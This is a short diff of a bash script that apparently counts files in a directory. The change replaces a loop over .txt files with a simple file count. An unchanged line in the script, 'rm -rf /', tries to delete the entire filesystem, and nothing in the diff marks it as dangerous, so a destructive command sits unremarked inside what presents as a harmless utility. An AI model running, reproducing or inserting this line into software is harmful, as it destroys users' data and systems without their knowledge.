@@ -1,8 +1,4 @@
 #!/usr/bin/env bash
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
 rm -rf /
+count=$(ls | wc -l)
+echo "files: $count"
